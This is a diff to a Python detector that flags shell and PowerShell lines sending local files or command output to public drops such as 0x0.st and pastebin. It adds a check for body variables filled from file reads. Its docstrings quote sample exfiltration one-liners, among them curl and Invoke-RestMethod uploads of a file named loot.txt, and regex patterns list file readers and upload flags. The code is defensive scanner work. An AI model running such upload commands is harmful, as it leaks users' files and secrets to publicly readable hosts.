@@ -33,7 +33,8 @@ def line_drops(text: str, segs: list) -> Optional[tuple]:
     if "." not in text or not ("=" in text and "$" in text or "config " in text or "alias " in text or
                                "Upload" in text or "(" in text and _BODY_WORD.search(text)) or not drop_named([text]):
         return None  # none of the shapes, or no drop on the line: one scan of it, before any segment is read
-    return _drop_in_variable(text, segs) or _body_in_parentheses(segs) or _upload_call(text)
+    held, remotes = _bound(text, segs)
+    return _drop_in_variable(text, segs, held, remotes) or _body_in_parentheses(segs, held) or _upload_call(text)
 
 
 _OUT_OPTIONS = frozenset({"-o", "--output", "-out", "--out", "--outfile", "-outfile", "--output-file"})
@@ -63,13 +64,13 @@ def made_own(text: str, segs: list) -> frozenset:
     return frozenset(made)
 
 
-def _body_in_parentheses(segs: list) -> Optional[tuple]:
+def _body_in_parentheses(segs: list, held: dict) -> Optional[tuple]:
     """``Invoke-RestMethod -Uri DROP -Body (Get-Content F -Raw)``: the parentheses' command feeds the body."""
     for k, seg in enumerate(segs[1:], 1):
         before = segs[k - 1].words
         if seg.link != "(" or not seg.words or not before or before[-1].text.lower() not in _BODY_BEFORE:
             continue
-        host = drop_named([w.text for w in before])
+        host = drop_named([_filled(w.text, held, {}) for w in before])
         texts = [w.text for w in seg.words]
         if host and not own_files_read(texts) and texts[0].lower() not in ("convertto-json", "@{"):
             return MEDIUM, f"sends a local file or a command's output to {host}, a public drop anyone with the link " \
@@ -95,10 +96,11 @@ _PS_ASSIGN = lazy(r"\$(\w+)\s*=\s*[\"']([^\"'\s]+)[\"']")
 _USE = lazy(r"\$\{?(\w+)\}?")
 
 
-def _drop_in_variable(text: str, segs: list) -> Optional[tuple]:
-    """``URL=https://0x0.st; curl -F f=@x "$URL"``, ``$url = "https://pastebin.com/…"; Invoke-RestMethod -Uri $url
-    -Body $data``: a drop held in a variable the line sets, then uploaded to by any program."""
-    held, remotes = {}, {}
+def _bound(text: str, segs: list) -> tuple:
+    """({variable: drop}, {remote name: drop}) the line sets: ``URL=https://0x0.st``, ``$u = "https://…"``,
+    ``rclone config create N ftp host ftp.dlptest.com``."""
+    held: dict = {}
+    remotes: dict = {}
     for m in _PS_ASSIGN.finditer(text):
         if drop_named([m.group(2)]):
             held[m.group(1).lower()] = m.group(2)
@@ -112,13 +114,24 @@ def _drop_in_variable(text: str, segs: list) -> Optional[tuple]:
             verb = next((k for k, t in enumerate(texts[1:4], 1) if t in ("create", "add", "set")), None)
             if verb is not None and verb + 1 < len(texts) and re.fullmatch(r"[\w.-]+", texts[verb + 1]):
                 remotes[texts[verb + 1].lower()] = drop_named(texts[verb + 2:])
-    if not held and not remotes:
-        return None
+    return held, remotes
+
+
+def _drop_in_variable(text: str, segs: list, held: dict, remotes: dict) -> Optional[tuple]:
+    """``URL=https://0x0.st; curl -F f=@x "$URL"``, ``$url = "https://pastebin.com/…"; Invoke-RestMethod -Uri $url
+    -Body $data``: a drop held in a variable the line sets, then uploaded to by any program; a body variable the
+    line read a file into (``$c = Get-Content F; Invoke-RestMethod -Uri DROP -Body $c``)."""
     for index, seg in enumerate(segs):
         words = seg.words
         if len(words) < 2 or not any("$" in w.raw or w.text.split(":", 1)[0].lower() in remotes for w in words[1:]):
             continue
-        filled = [replace(w, text=_filled(w.text, held, remotes)) for w in words]
+        filled = [replace(w, text=_filled(w.text, held, remotes)) for w in words] if held or remotes else words
+        host = drop_named([w.text for w in filled])
+        if not host:
+            continue
+        read = _read_into_body(text, [w.text for w in filled])
+        if read:
+            return MEDIUM, f"sends {read}, read into a variable, to {host}, a public drop anyone with the link can read"
         if all(a.text == b.text for a, b in zip(filled, words)):
             continue
         chain: list = []
@@ -131,6 +144,33 @@ def _drop_in_variable(text: str, segs: list) -> Optional[tuple]:
         if found:
             return found
     return None
+
+
+_BODY_VALUE = frozenset({"-body", "-infile", "-d", "--data", "--data-binary", "--data-raw", "--body", "-f", "--form",
+                         "--post-data", "--body-data", "--raw", "--json", "--payload"})
+# A variable set from a file read: PowerShell's and .NET's readers, a shell substitution of a reader; then its words.
+_READ_INTO = lazy(r"(?:\$|(?:^|[\s;&]))(\w+)\s*=\s*(?:\$\(\s*)?(?:\[(?:System\.)?IO\.File\]::ReadAll\w+\(|"
+                  r"(?:Get-Content|gc|cat|type|head|tail|base64|xxd)\s)([^;)\n]*)", re.IGNORECASE)
+
+
+def _read_into_body(text: str, texts: list) -> str:
+    """What a sender's body variable holds when the line read a file into it (``$c = Get-Content C:\\x\\loot.txt;
+    Invoke-RestMethod … -Body $c``, ``d=$(cat /tmp/x); curl -d "$d" …``), the user's own files aside; or ""."""
+    bodies = set()
+    for k, t in enumerate(texts):
+        name, _, joined = t.partition("=") if t.startswith("--") else (t, "", "")
+        value = joined or (texts[k + 1] if k + 1 < len(texts) else "")
+        m = re.search(r"\$\{?(\w+)", value) if name.lower() in _BODY_VALUE else None
+        if m:
+            bodies.add(m.group(1).lower())
+    if not bodies:
+        return ""
+    for m in _READ_INTO.finditer(text):
+        path = next((p for p in m.group(2).replace("'", " ").replace('"', " ").split()
+                     if not p.startswith("-") and re.search(r"[/\\.:~$]", p)), "")
+        if m.group(1).lower() in bodies and path and file_data(path):
+            return f"what {path} holds"
+    return ""
 
 
 def _filled(text: str, held: dict, remotes: dict) -> str:
